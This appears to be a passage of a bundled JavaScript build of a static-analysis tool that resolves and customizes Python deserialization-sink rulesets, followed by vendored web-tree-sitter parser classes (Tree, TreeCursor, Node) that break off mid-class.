  all: "every Python rule",
  deserialization: "every rule that reports a deserialization sink",
  lang: "the Python standard library and general-purpose serialization libraries",
  ml: "machine-learning and data-science libraries that unpickle model and data files"
};
function pythonBundles() {
  const names = new Set(Object.keys(BUNDLE_DESCRIPTIONS));
  for (const r of PYTHON_RULES) for (const b of r.bundles) names.add(b);
  return [...names].sort();
}
function resolveRulesets(specs, extraRules = []) {
  const all = [...PYTHON_RULES, ...extraRules];
  if (!specs.length) return { ok: true, rules: all };
  const chosen = /* @__PURE__ */ new Map();
  for (const raw of specs) {
    const spec = raw.trim();
    const [lang, name2] = spec.includes("/") ? spec.split("/", 2) : ["python", spec];
    if (lang.toLowerCase() !== "python") {
      return { ok: false, error: `unknown ruleset language "${lang}" in "${spec}": only "python/..." rulesets exist` };
    }
    const byId = all.find((r) => r.id.toUpperCase() === name2.toUpperCase());
    if (byId) {
      chosen.set(byId.id, byId);
      continue;
    }
    const bundle = name2.toLowerCase();
    const members = bundle === "all" ? all : all.filter((r) => r.bundles.includes(bundle));
    if (!members.length && !Object.hasOwn(BUNDLE_DESCRIPTIONS, bundle)) {
      const candidates = [...all.map((r) => `python/${r.id}`), ...pythonBundles().map((b) => `python/${b}`)];
      const suggestion = closest(`python/${name2}`, candidates);
      return {
        ok: false,
        error: `unknown ruleset "${spec}"${suggestion ? `; did you mean "${suggestion}"?` : ""} (see: pathfinder rules list)`
      };
    }
    for (const r of members) chosen.set(r.id, r);
  }
  return { ok: true, rules: [...chosen.values()].sort((a, b) => a.id.localeCompare(b.id)) };
}
function closest(input, candidates) {
  let best;
  let bestDistance = Infinity;
  for (const c of candidates) {
    const d = editDistance(input.toLowerCase(), c.toLowerCase());
    if (d < bestDistance) [best, bestDistance] = [c, d];
  }
  return best !== void 0 && bestDistance <= Math.max(3, Math.floor(input.length / 3)) ? best : void 0;
}
function editDistance(a, b) {
  let prev = Array.from({ length: b.length + 1 }, (_, i2) => i2);
  for (let i2 = 1; i2 <= a.length; i2++) {
    const cur = [i2];
    for (let j = 1; j <= b.length; j++) {
      cur[j] = Math.min(prev[j] + 1, cur[j - 1] + 1, prev[j - 1] + (a[i2 - 1] === b[j - 1] ? 0 : 1));
    }
    prev = cur;
  }
  return prev[b.length];
}
function ruleMeta(rule) {
  const { prefilter: _prefilter, sinks: _sinks, ...meta } = rule;
  return meta;
}
function ruleSetSpec(rulesets, settings = {}) {
  const selection = resolveRulesets(rulesets);
  if (!selection.ok) return selection;
  if (!selection.rules.length) return { ok: false, error: `no rules to run: ${rulesets.join(", ")} holds no rules yet` };
  const disabled = new Set((settings.disable ?? []).map((id) => id.toUpperCase()));
  const ruleIds = selection.rules.map((r) => r.id).filter((id) => !disabled.has(id.toUpperCase()));
  if (!ruleIds.length && !settings.allowEmpty) {
    const what = rulesets.length ? `the selected rulesets (${rulesets.join(", ")})` : "the registry";
    const by = settings.source ? `"disable" in ${settings.source}` : `"disable"`;
    return { ok: false, error: `no rules to run: every rule of ${what} is disabled by ${by}` };
  }
  return { ok: true, spec: { ruleIds, ...settings.customizations ? { customizations: settings.customizations } : {} } };
}
function buildRuleSet(spec) {
  return spec.ruleIds.map((id) => {
    const rule = PYTHON_RULES.find((r) => r.id === id);
    if (!rule) throw new Error(`unknown rule ID "${id}" in rule set`);
    return customized(rule, spec.customizations?.[id]);
  });
}
function customized(rule, change) {
  const extra = [...new Set((change?.extraSinks ?? []).map(canonicalName))];
  const severity = change?.severity;
  if (!extra.length && !severity) return rule;
  let sinks = extra.length ? [...rule.sinks, configuredSink(rule, extra)] : rule.sinks;
  if (severity) sinks = sinks.map((s) => withSeverity(s, severity));
  const prefilter = [.../* @__PURE__ */ new Set([...rule.prefilter, ...extra.map((name2) => name2.slice(name2.lastIndexOf(".") + 1))])];
  return { ...rule, severity: severity ?? rule.severity, prefilter, sinks };
}
function configuredSink(rule, names) {
  const message15 = (m) => {
    const spelled2 = m.calleeText === m.target ? code(m.target) : `${code(m.calleeText)} (${m.target})`;
    const sink = `configured as a deserialization sink of ${rule.id} (${rule.name})`;
    switch (m.via) {
      case "subclass":
        return `${code(m.subclass.name)} subclasses ${code(m.target)}, ${sink}: never pass it data from an untrusted source.`;
      case "reference":
        return `${spelled2}, ${sink}, is passed as a callable: every value it is applied to is deserialized.`;
      default:
        return `${spelled2} is ${sink}: never pass it data from an untrusted source.`;
    }
  };
  return { call: names, subclasses: true, references: true, message: message15 };
}
function withSeverity(spec, severity) {
  const check10 = spec.check;
  return {
    ...spec,
    check: (m) => {
      const outcome = check10 ? check10(m) : {};
      return outcome === null ? null : { ...outcome, severity };
    }
  };
}

// src/project/python-parser.ts
import { existsSync } from "node:fs";
import { readFile } from "node:fs/promises";
import { createRequire } from "node:module";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";

// node_modules/web-tree-sitter/tree-sitter.js
var __defProp2 = Object.defineProperty;
var __name = (target, value) => __defProp2(target, "name", { value, configurable: true });
var SIZE_OF_SHORT = 2;
var SIZE_OF_INT = 4;
var SIZE_OF_CURSOR = 4 * SIZE_OF_INT;
var SIZE_OF_NODE = 5 * SIZE_OF_INT;
var SIZE_OF_POINT = 2 * SIZE_OF_INT;
var SIZE_OF_RANGE = 2 * SIZE_OF_INT + 2 * SIZE_OF_POINT;
var ZERO_POINT = { row: 0, column: 0 };
var INTERNAL = /* @__PURE__ */ Symbol("INTERNAL");
function assertInternal(x) {
  if (x !== INTERNAL) throw new Error("Illegal constructor");
}
__name(assertInternal, "assertInternal");
function isPoint(point) {
  return !!point && typeof point.row === "number" && typeof point.column === "number";
}
__name(isPoint, "isPoint");
function setModule(module2) {
  C = module2;
}
__name(setModule, "setModule");
var C;
var LookaheadIterator = class {
  static {
    __name(this, "LookaheadIterator");
  }
  /** @internal */
  [0] = 0;
  // Internal handle for WASM
  /** @internal */
  language;
  /** @internal */
  constructor(internal, address, language) {
    assertInternal(internal);
    this[0] = address;
    this.language = language;
  }
  /** Get the current symbol of the lookahead iterator. */
  get currentTypeId() {
    return C._ts_lookahead_iterator_current_symbol(this[0]);
  }
  /** Get the current symbol name of the lookahead iterator. */
  get currentType() {
    return this.language.types[this.currentTypeId] || "ERROR";
  }
  /** Delete the lookahead iterator, freeing its resources. */
  delete() {
    C._ts_lookahead_iterator_delete(this[0]);
    this[0] = 0;
  }
  /**
   * Reset the lookahead iterator.
   *
   * This returns `true` if the language was set successfully and `false`
   * otherwise.
   */
  reset(language, stateId) {
    if (C._ts_lookahead_iterator_reset(this[0], language[0], stateId)) {
      this.language = language;
      return true;
    }
    return false;
  }
  /**
   * Reset the lookahead iterator to another state.
   *
   * This returns `true` if the iterator was reset to the given state and
   * `false` otherwise.
   */
  resetState(stateId) {
    return Boolean(C._ts_lookahead_iterator_reset_state(this[0], stateId));
  }
  /**
   * Returns an iterator that iterates over the symbols of the lookahead iterator.
   *
   * The iterator will yield the current symbol name as a string for each step
   * until there are no more symbols to iterate over.
   */
  [Symbol.iterator]() {
    return {
      next: /* @__PURE__ */ __name(() => {
        if (C._ts_lookahead_iterator_next(this[0])) {
          return { done: false, value: this.currentType };
        }
        return { done: true, value: "" };
      }, "next")
    };
  }
};
function getText(tree, startIndex, endIndex, startPosition) {
  const length = endIndex - startIndex;
  let result2 = tree.textCallback(startIndex, startPosition);
  if (result2) {
    startIndex += result2.length;
    while (startIndex < endIndex) {
      const string = tree.textCallback(startIndex, startPosition);
      if (string && string.length > 0) {
        startIndex += string.length;
        result2 += string;
      } else {
        break;
      }
    }
    if (startIndex > endIndex) {
      result2 = result2.slice(0, length);
    }
  }
  return result2 ?? "";
}
__name(getText, "getText");
var Tree = class _Tree {
  static {
    __name(this, "Tree");
  }
  /** @internal */
  [0] = 0;
  // Internal handle for WASM
  /** @internal */
  textCallback;
  /** The language that was used to parse the syntax tree. */
  language;
  /** @internal */
  constructor(internal, address, language, textCallback) {
    assertInternal(internal);
    this[0] = address;
    this.language = language;
    this.textCallback = textCallback;
  }
  /** Create a shallow copy of the syntax tree. This is very fast. */
  copy() {
    const address = C._ts_tree_copy(this[0]);
    return new _Tree(INTERNAL, address, this.language, this.textCallback);
  }
  /** Delete the syntax tree, freeing its resources. */
  delete() {
    C._ts_tree_delete(this[0]);
    this[0] = 0;
  }
  /** Get the root node of the syntax tree. */
  get rootNode() {
    C._ts_tree_root_node_wasm(this[0]);
    return unmarshalNode(this);
  }
  /**
   * Get the root node of the syntax tree, but with its position shifted
   * forward by the given offset.
   */
  rootNodeWithOffset(offsetBytes, offsetExtent) {
    const address = TRANSFER_BUFFER + SIZE_OF_NODE;
    C.setValue(address, offsetBytes, "i32");
    marshalPoint(address + SIZE_OF_INT, offsetExtent);
    C._ts_tree_root_node_with_offset_wasm(this[0]);
    return unmarshalNode(this);
  }
  /**
   * Edit the syntax tree to keep it in sync with source code that has been
   * edited.
   *
   * You must describe the edit both in terms of byte offsets and in terms of
   * row/column coordinates.
   */
  edit(edit) {
    marshalEdit(edit);
    C._ts_tree_edit_wasm(this[0]);
  }
  /** Create a new {@link TreeCursor} starting from the root of the tree. */
  walk() {
    return this.rootNode.walk();
  }
  /**
   * Compare this old edited syntax tree to a new syntax tree representing
   * the same document, returning a sequence of ranges whose syntactic
   * structure has changed.
   *
   * For this to work correctly, this syntax tree must have been edited such
   * that its ranges match up to the new tree. Generally, you'll want to
   * call this method right after calling one of the [`Parser::parse`]
   * functions. Call it on the old tree that was passed to parse, and
   * pass the new tree that was returned from `parse`.
   */
  getChangedRanges(other) {
    if (!(other instanceof _Tree)) {
      throw new TypeError("Argument must be a Tree");
    }
    C._ts_tree_get_changed_ranges_wasm(this[0], other[0]);
    const count = C.getValue(TRANSFER_BUFFER, "i32");
    const buffer = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
    const result2 = new Array(count);
    if (count > 0) {
      let address = buffer;
      for (let i2 = 0; i2 < count; i2++) {
        result2[i2] = unmarshalRange(address);
        address += SIZE_OF_RANGE;
      }
      C._free(buffer);
    }
    return result2;
  }
  /** Get the included ranges that were used to parse the syntax tree. */
  getIncludedRanges() {
    C._ts_tree_included_ranges_wasm(this[0]);
    const count = C.getValue(TRANSFER_BUFFER, "i32");
    const buffer = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
    const result2 = new Array(count);
    if (count > 0) {
      let address = buffer;
      for (let i2 = 0; i2 < count; i2++) {
        result2[i2] = unmarshalRange(address);
        address += SIZE_OF_RANGE;
      }
      C._free(buffer);
    }
    return result2;
  }
};
var TreeCursor = class _TreeCursor {
  static {
    __name(this, "TreeCursor");
  }
  /** @internal */
  // @ts-expect-error: never read
  [0] = 0;
  // Internal handle for Wasm
  /** @internal */
  // @ts-expect-error: never read
  [1] = 0;
  // Internal handle for Wasm
  /** @internal */
  // @ts-expect-error: never read
  [2] = 0;
  // Internal handle for Wasm
  /** @internal */
  // @ts-expect-error: never read
  [3] = 0;
  // Internal handle for Wasm
  /** @internal */
  tree;
  /** @internal */
  constructor(internal, tree) {
    assertInternal(internal);
    this.tree = tree;
    unmarshalTreeCursor(this);
  }
  /** Creates a deep copy of the tree cursor. This allocates new memory. */
  copy() {
    const copy = new _TreeCursor(INTERNAL, this.tree);
    C._ts_tree_cursor_copy_wasm(this.tree[0]);
    unmarshalTreeCursor(copy);
    return copy;
  }
  /** Delete the tree cursor, freeing its resources. */
  delete() {
    marshalTreeCursor(this);
    C._ts_tree_cursor_delete_wasm(this.tree[0]);
    this[0] = this[1] = this[2] = 0;
  }
  /** Get the tree cursor's current {@link Node}. */
  get currentNode() {
    marshalTreeCursor(this);
    C._ts_tree_cursor_current_node_wasm(this.tree[0]);
    return unmarshalNode(this.tree);
  }
  /**
   * Get the numerical field id of this tree cursor's current node.
   *
   * See also {@link TreeCursor#currentFieldName}.
   */
  get currentFieldId() {
    marshalTreeCursor(this);
    return C._ts_tree_cursor_current_field_id_wasm(this.tree[0]);
  }
  /** Get the field name of this tree cursor's current node. */
  get currentFieldName() {
    return this.tree.language.fields[this.currentFieldId];
  }
  /**
   * Get the depth of the cursor's current node relative to the original
   * node that the cursor was constructed with.
   */
  get currentDepth() {
    marshalTreeCursor(this);
    return C._ts_tree_cursor_current_depth_wasm(this.tree[0]);
  }
  /**
   * Get the index of the cursor's current node out of all of the
   * descendants of the original node that the cursor was constructed with.
   */
  get currentDescendantIndex() {
    marshalTreeCursor(this);
    return C._ts_tree_cursor_current_descendant_index_wasm(this.tree[0]);
  }
  /** Get the type of the cursor's current node. */
  get nodeType() {
    return this.tree.language.types[this.nodeTypeId] || "ERROR";
  }
  /** Get the type id of the cursor's current node. */
  get nodeTypeId() {
    marshalTreeCursor(this);
    return C._ts_tree_cursor_current_node_type_id_wasm(this.tree[0]);
  }
  /** Get the state id of the cursor's current node. */
  get nodeStateId() {
    marshalTreeCursor(this);
    return C._ts_tree_cursor_current_node_state_id_wasm(this.tree[0]);
  }
  /** Get the id of the cursor's current node. */
  get nodeId() {
    marshalTreeCursor(this);
    return C._ts_tree_cursor_current_node_id_wasm(this.tree[0]);
  }
  /**
   * Check if the cursor's current node is *named*.
   *
   * Named nodes correspond to named rules in the grammar, whereas
   * *anonymous* nodes correspond to string literals in the grammar.
   */
  get nodeIsNamed() {
    marshalTreeCursor(this);
    return C._ts_tree_cursor_current_node_is_named_wasm(this.tree[0]) === 1;
  }
  /**
   * Check if the cursor's current node is *missing*.
   *
   * Missing nodes are inserted by the parser in order to recover from
   * certain kinds of syntax errors.
   */
  get nodeIsMissing() {
    marshalTreeCursor(this);
    return C._ts_tree_cursor_current_node_is_missing_wasm(this.tree[0]) === 1;
  }
  /** Get the string content of the cursor's current node. */
  get nodeText() {
    marshalTreeCursor(this);
    const startIndex = C._ts_tree_cursor_start_index_wasm(this.tree[0]);
    const endIndex = C._ts_tree_cursor_end_index_wasm(this.tree[0]);
    C._ts_tree_cursor_start_position_wasm(this.tree[0]);
    const startPosition = unmarshalPoint(TRANSFER_BUFFER);
    return getText(this.tree, startIndex, endIndex, startPosition);
  }
  /** Get the start position of the cursor's current node. */
  get startPosition() {
    marshalTreeCursor(this);
    C._ts_tree_cursor_start_position_wasm(this.tree[0]);
    return unmarshalPoint(TRANSFER_BUFFER);
  }
  /** Get the end position of the cursor's current node. */
  get endPosition() {
    marshalTreeCursor(this);
    C._ts_tree_cursor_end_position_wasm(this.tree[0]);
    return unmarshalPoint(TRANSFER_BUFFER);
  }
  /** Get the start index of the cursor's current node. */
  get startIndex() {
    marshalTreeCursor(this);
    return C._ts_tree_cursor_start_index_wasm(this.tree[0]);
  }
  /** Get the end index of the cursor's current node. */
  get endIndex() {
    marshalTreeCursor(this);
    return C._ts_tree_cursor_end_index_wasm(this.tree[0]);
  }
  /**
   * Move this cursor to the first child of its current node.
   *
   * This returns `true` if the cursor successfully moved, and returns
   * `false` if there were no children.
   */
  gotoFirstChild() {
    marshalTreeCursor(this);
    const result2 = C._ts_tree_cursor_goto_first_child_wasm(this.tree[0]);
    unmarshalTreeCursor(this);
    return result2 === 1;
  }
  /**
   * Move this cursor to the last child of its current node.
   *
   * This returns `true` if the cursor successfully moved, and returns
   * `false` if there were no children.
   *
   * Note that this function may be slower than
   * {@link TreeCursor#gotoFirstChild} because it needs to
   * iterate through all the children to compute the child's position.
   */
  gotoLastChild() {
    marshalTreeCursor(this);
    const result2 = C._ts_tree_cursor_goto_last_child_wasm(this.tree[0]);
    unmarshalTreeCursor(this);
    return result2 === 1;
  }
  /**
   * Move this cursor to the parent of its current node.
   *
   * This returns `true` if the cursor successfully moved, and returns
   * `false` if there was no parent node (the cursor was already on the
   * root node).
   *
   * Note that the node the cursor was constructed with is considered the root
   * of the cursor, and the cursor cannot walk outside this node.
   */
  gotoParent() {
    marshalTreeCursor(this);
    const result2 = C._ts_tree_cursor_goto_parent_wasm(this.tree[0]);
    unmarshalTreeCursor(this);
    return result2 === 1;
  }
  /**
   * Move this cursor to the next sibling of its current node.
   *
   * This returns `true` if the cursor successfully moved, and returns
   * `false` if there was no next sibling node.
   *
   * Note that the node the cursor was constructed with is considered the root
   * of the cursor, and the cursor cannot walk outside this node.
   */
  gotoNextSibling() {
    marshalTreeCursor(this);
    const result2 = C._ts_tree_cursor_goto_next_sibling_wasm(this.tree[0]);
    unmarshalTreeCursor(this);
    return result2 === 1;
  }
  /**
   * Move this cursor to the previous sibling of its current node.
   *
   * This returns `true` if the cursor successfully moved, and returns
   * `false` if there was no previous sibling node.
   *
   * Note that this function may be slower than
   * {@link TreeCursor#gotoNextSibling} due to how node
   * positions are stored. In the worst case, this will need to iterate
   * through all the children up to the previous sibling node to recalculate
   * its position. Also note that the node the cursor was constructed with is
   * considered the root of the cursor, and the cursor cannot walk outside this node.
   */
  gotoPreviousSibling() {
    marshalTreeCursor(this);
    const result2 = C._ts_tree_cursor_goto_previous_sibling_wasm(this.tree[0]);
    unmarshalTreeCursor(this);
    return result2 === 1;
  }
  /**
   * Move the cursor to the node that is the nth descendant of
   * the original node that the cursor was constructed with, where
   * zero represents the original node itself.
   */
  gotoDescendant(goalDescendantIndex) {
    marshalTreeCursor(this);
    C._ts_tree_cursor_goto_descendant_wasm(this.tree[0], goalDescendantIndex);
    unmarshalTreeCursor(this);
  }
  /**
   * Move this cursor to the first child of its current node that contains or
   * starts after the given byte offset.
   *
   * This returns `true` if the cursor successfully moved to a child node, and returns
   * `false` if no such child was found.
   */
  gotoFirstChildForIndex(goalIndex) {
    marshalTreeCursor(this);
    C.setValue(TRANSFER_BUFFER + SIZE_OF_CURSOR, goalIndex, "i32");
    const result2 = C._ts_tree_cursor_goto_first_child_for_index_wasm(this.tree[0]);
    unmarshalTreeCursor(this);
    return result2 === 1;
  }
  /**
   * Move this cursor to the first child of its current node that contains or
   * starts after the given byte offset.
   *
   * This returns the index of the child node if one was found, and returns
   * `null` if no such child was found.
   */
  gotoFirstChildForPosition(goalPosition) {
    marshalTreeCursor(this);
    marshalPoint(TRANSFER_BUFFER + SIZE_OF_CURSOR, goalPosition);
    const result2 = C._ts_tree_cursor_goto_first_child_for_position_wasm(this.tree[0]);
    unmarshalTreeCursor(this);
    return result2 === 1;
  }
  /**
   * Re-initialize this tree cursor to start at the original node that the
   * cursor was constructed with.
   */
  reset(node) {
    marshalNode(node);
    marshalTreeCursor(this, TRANSFER_BUFFER + SIZE_OF_NODE);
    C._ts_tree_cursor_reset_wasm(this.tree[0]);
    unmarshalTreeCursor(this);
  }
  /**
   * Re-initialize a tree cursor to the same position as another cursor.
   *
   * Unlike {@link TreeCursor#reset}, this will not lose parent
   * information and allows reusing already created cursors.
   */
  resetTo(cursor) {
    marshalTreeCursor(this, TRANSFER_BUFFER);
    marshalTreeCursor(cursor, TRANSFER_BUFFER + SIZE_OF_CURSOR);
    C._ts_tree_cursor_reset_to_wasm(this.tree[0], cursor.tree[0]);
    unmarshalTreeCursor(this);
  }
};
var Node = class {
  static {
    __name(this, "Node");
  }
  /** @internal */
  // @ts-expect-error: never read
  [0] = 0;
  // Internal handle for Wasm
  /** @internal */
  _children;
  /** @internal */
  _namedChildren;
  /** @internal */
  constructor(internal, {
    id,
    tree,
    startIndex,
    startPosition,
    other
  }) {
    assertInternal(internal);
    this[0] = other;
    this.id = id;
    this.tree = tree;
    this.startIndex = startIndex;
    this.startPosition = startPosition;
  }
  /**
   * The numeric id for this node that is unique.
   *
   * Within a given syntax tree, no two nodes have the same id. However:
   *
   * * If a new tree is created based on an older tree, and a node from the old tree is reused in
   *   the process, then that node will have the same id in both trees.
   *
   * * A node not marked as having changes does not guarantee it was reused.
   *
   * * If a node is marked as having changed in the old tree, it will not be reused.
   */
  id;
  /** The byte index where this node starts. */
  startIndex;
  /** The position where this node starts. */
  startPosition;
  /** The tree that this node belongs to. */
  tree;
  /** Get this node's type as a numerical id. */
  get typeId() {
    marshalNode(this);
    return C._ts_node_symbol_wasm(this.tree[0]);
  }
  /**
   * Get the node's type as a numerical id as it appears in the grammar,
   * ignoring aliases.
   */
  get grammarId() {
    marshalNode(this);
    return C._ts_node_grammar_symbol_wasm(this.tree[0]);
  }
  /** Get this node's type as a string. */
  get type() {
    return this.tree.language.types[this.typeId] || "ERROR";
  }
  /**
   * Get this node's symbol name as it appears in the grammar, ignoring
   * aliases as a string.
   */
  get grammarType() {
    return this.tree.language.types[this.grammarId] || "ERROR";
  }
  /**
   * Check if this node is *named*.
   *
   * Named nodes correspond to named rules in the grammar, whereas
   * *anonymous* nodes correspond to string literals in the grammar.
   */
  get isNamed() {
    marshalNode(this);
    return C._ts_node_is_named_wasm(this.tree[0]) === 1;
  }
  /**
   * Check if this node is *extra*.
   *
   * Extra nodes represent things like comments, which are not required
   * by the grammar, but can appear anywhere.
   */
  get isExtra() {
    marshalNode(this);
    return C._ts_node_is_extra_wasm(this.tree[0]) === 1;
  }
  /**
   * Check if this node represents a syntax error.
   *
   * Syntax errors represent parts of the code that could not be incorporated
   * into a valid syntax tree.
   */
  get isError() {
    marshalNode(this);
    return C._ts_node_is_error_wasm(this.tree[0]) === 1;
  }
  /**
   * Check if this node is *missing*.
   *
   * Missing nodes are inserted by the parser in order to recover from
   * certain kinds of syntax errors.
   */
  get isMissing() {
    marshalNode(this);
    return C._ts_node_is_missing_wasm(this.tree[0]) === 1;
  }
  /** Check if this node has been edited. */
  get hasChanges() {
    marshalNode(this);
    return C._ts_node_has_changes_wasm(this.tree[0]) === 1;
  }
  /**
   * Check if this node represents a syntax error or contains any syntax
   * errors anywhere within it.
   */
  get hasError() {
    marshalNode(this);
    return C._ts_node_has_error_wasm(this.tree[0]) === 1;
  }
  /** Get the byte index where this node ends. */
  get endIndex() {
    marshalNode(this);
    return C._ts_node_end_index_wasm(this.tree[0]);
  }
  /** Get the position where this node ends. */
  get endPosition() {
    marshalNode(this);
    C._ts_node_end_point_wasm(this.tree[0]);
    return unmarshalPoint(TRANSFER_BUFFER);
  }
  /** Get the string content of this node. */
  get text() {
    return getText(this.tree, this.startIndex, this.endIndex, this.startPosition);
  }
  /** Get this node's parse state. */
  get parseState() {
    marshalNode(this);
    return C._ts_node_parse_state_wasm(this.tree[0]);
  }
  /** Get the parse state after this node. */
  get nextParseState() {
    marshalNode(this);
    return C._ts_node_next_parse_state_wasm(this.tree[0]);
  }
  /** Check if this node is equal to another node. */
  equals(other) {
    return this.tree === other.tree && this.id === other.id;
  }
  /**
   * Get the node's child at the given index, where zero represents the first child.
   *
   * This method is fairly fast, but its cost is technically log(n), so if
   * you might be iterating over a long list of children, you should use
   * {@link Node#children} instead.
   */
  child(index) {
    marshalNode(this);
    C._ts_node_child_wasm(this.tree[0], index);
    return unmarshalNode(this.tree);
  }
  /**
   * Get this node's *named* child at the given index.
   *
   * See also {@link Node#isNamed}.
   * This method is fairly fast, but its cost is technically log(n), so if
   * you might be iterating over a long list of children, you should use
   * {@link Node#namedChildren} instead.
   */
  namedChild(index) {
    marshalNode(this);
    C._ts_node_named_child_wasm(this.tree[0], index);
    return unmarshalNode(this.tree);
  }
  /**
   * Get this node's child with the given numerical field id.
   *
   * See also {@link Node#childForFieldName}. You can
   * convert a field name to an id using {@link Language#fieldIdForName}.
   */
  childForFieldId(fieldId) {
    marshalNode(this);
    C._ts_node_child_by_field_id_wasm(this.tree[0], fieldId);
    return unmarshalNode(this.tree);
  }
  /**
   * Get the first child with the given field name.
   *
   * If multiple children may have the same field name, access them using
   * {@link Node#childrenForFieldName}.
   */
  childForFieldName(fieldName) {
    const fieldId = this.tree.language.fields.indexOf(fieldName);
    if (fieldId !== -1) return this.childForFieldId(fieldId);
    return null;
  }
  /** Get the field name of this node's child at the given index. */
  fieldNameForChild(index) {
    marshalNode(this);
    const address = C._ts_node_field_name_for_child_wasm(this.tree[0], index);
    if (!address) return null;
    return C.AsciiToString(address);
  }
  /** Get the field name of this node's named child at the given index. */
  fieldNameForNamedChild(index) {
    marshalNode(this);
    const address = C._ts_node_field_name_for_named_child_wasm(this.tree[0], index);
    if (!address) return null;
    return C.AsciiToString(address);
  }
  /**
   * Get an array of this node's children with a given field name.
   *
   * See also {@link Node#children}.
   */
  childrenForFieldName(fieldName) {
    const fieldId = this.tree.language.fields.indexOf(fieldName);
    if (fieldId !== -1 && fieldId !== 0) return this.childrenForFieldId(fieldId);
    return [];
  }
  /**
    * Get an array of this node's children with a given field id.
    *
    * See also {@link Node#childrenForFieldName}.
    */
  childrenForFieldId(fieldId) {
    marshalNode(this);
    C._ts_node_children_by_field_id_wasm(this.tree[0], fieldId);
    const count = C.getValue(TRANSFER_BUFFER, "i32");
    const buffer = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
    const result2 = new Array(count);
    if (count > 0) {
      let address = buffer;
      for (let i2 = 0; i2 < count; i2++) {
        result2[i2] = unmarshalNode(this.tree, address);
        address += SIZE_OF_NODE;
      }
      C._free(buffer);
    }
    return result2;
  }
  /** Get the node's first child that contains or starts after the given byte offset. */
  firstChildForIndex(index) {
    marshalNode(this);
    const address = TRANSFER_BUFFER + SIZE_OF_NODE;
    C.setValue(address, index, "i32");
    C._ts_node_first_child_for_byte_wasm(this.tree[0]);
    return unmarshalNode(this.tree);
  }
  /** Get the node's first named child that contains or starts after the given byte offset. */
  firstNamedChildForIndex(index) {
    marshalNode(this);
    const address = TRANSFER_BUFFER + SIZE_OF_NODE;
    C.setValue(address, index, "i32");
    C._ts_node_first_named_child_for_byte_wasm(this.tree[0]);
    return unmarshalNode(this.tree);
  }
  /** Get this node's number of children. */
  get childCount() {
    marshalNode(this);
    return C._ts_node_child_count_wasm(this.tree[0]);
  }
  /**
   * Get this node's number of *named* children.
   *
   * See also {@link Node#isNamed}.
   */
  get namedChildCount() {
    marshalNode(this);
    return C._ts_node_named_child_count_wasm(this.tree[0]);
  }
  /** Get this node's first child. */
  get firstChild() {
    return this.child(0);
  }
  /**
   * Get this node's first named child.
   *
   * See also {@link Node#isNamed}.
   */
  get firstNamedChild() {
    return this.namedChild(0);
  }
  /** Get this node's last child. */
  get lastChild() {
    return this.child(this.childCount - 1);
  }
  /**
   * Get this node's last named child.
   *
   * See also {@link Node#isNamed}.
   */
  get lastNamedChild() {
    return this.namedChild(this.namedChildCount - 1);
  }
  /**
   * Iterate over this node's children.
   *
   * If you're walking the tree recursively, you may want to use the
   * {@link TreeCursor} APIs directly instead.
   */
  get children() {
    if (!this._children) {
      marshalNode(this);
      C._ts_node_children_wasm(this.tree[0]);
      const count = C.getValue(TRANSFER_BUFFER, "i32");
      const buffer = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
      this._children = new Array(count);
      if (count > 0) {
        let address = buffer;
        for (let i2 = 0; i2 < count; i2++) {
          this._children[i2] = unmarshalNode(this.tree, address);
          address += SIZE_OF_NODE;
        }
        C._free(buffer);
      }
    }
    return this._children;
  }
  /**
   * Iterate over this node's named children.
   *
   * See also {@link Node#children}.
   */
  get namedChildren() {
    if (!this._namedChildren) {
      marshalNode(this);
      C._ts_node_named_children_wasm(this.tree[0]);
      const count = C.getValue(TRANSFER_BUFFER, "i32");
      const buffer = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
      this._namedChildren = new Array(count);
      if (count > 0) {
        let address = buffer;
        for (let i2 = 0; i2 < count; i2++) {
          this._namedChildren[i2] = unmarshalNode(this.tree, address);
          address += SIZE_OF_NODE;
        }
        C._free(buffer);
      }
    }
    return this._namedChildren;
  }
  /**
   * Get the descendants of this node that are the given type, or in the given types array.
   *
   * The types array should contain node type strings, which can be retrieved from {@link Language#types}.
   *
   * Additionally, a `startPosition` and `endPosition` can be passed in to restrict the search to a byte range.
   */
  descendantsOfType(types, startPosition = ZERO_POINT, endPosition = ZERO_POINT) {
    if (!Array.isArray(types)) types = [types];
    const symbols = [];
    const typesBySymbol = this.tree.language.types;
    for (const node_type of types) {
      if (node_type == "ERROR") {
        symbols.push(65535);
      }
    }
    for (let i2 = 0, n = typesBySymbol.length; i2 < n; i2++) {
      if (types.includes(typesBySymbol[i2])) {
        symbols.push(i2);
      }
    }
    const symbolsAddress = C._malloc(SIZE_OF_INT * symbols.length);
    for (let i2 = 0, n = symbols.length; i2 < n; i2++) {
      C.setValue(symbolsAddress + i2 * SIZE_OF_INT, symbols[i2], "i32");
    }
    marshalNode(this);
    C._ts_node_descendants_of_type_wasm(
      this.tree[0],
      symbolsAddress,
      symbols.length,
      startPosition.row,
      startPosition.column,
      endPosition.row,
      endPosition.column
    );
    const descendantCount = C.getValue(TRANSFER_BUFFER, "i32");
    const descendantAddress = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
    const result2 = new Array(descendantCount);
    if (descendantCount > 0) {
      let address = descendantAddress;
      for (let i2 = 0; i2 < descendantCount; i2++) {
        result2[i2] = unmarshalNode(this.tree, address);
        address += SIZE_OF_NODE;
      }
    }
    C._free(descendantAddress);
    C._free(symbolsAddress);
    return result2;
  }
  /** Get this node's next sibling. */
  get nextSibling() {
    marshalNode(this);
    C._ts_node_next_sibling_wasm(this.tree[0]);
    return unmarshalNode(this.tree);
  }
  /** Get this node's previous sibling. */
  get previousSibling() {
    marshalNode(this);
    C._ts_node_prev_sibling_wasm(this.tree[0]);
    return unmarshalNode(this.tree);
  }
  /**
   * Get this node's next *named* sibling.
   *
   * See also {@link Node#isNamed}.
   */
  get nextNamedSibling() {
    marshalNode(this);
    C._ts_node_next_named_sibling_wasm(this.tree[0]);
    return unmarshalNode(this.tree);
  }
  /**
   * Get this node's previous *named* sibling.
   *
   * See also {@link Node#isNamed}.
   */
  get previousNamedSibling() {
    marshalNode(this);
    C._ts_node_prev_named_sibling_wasm(this.tree[0]);
    return unmarshalNode(this.tree);
  }
  /** Get the node's number of descendants, including one for the node itself. */
  get descendantCount() {
    marshalNode(this);
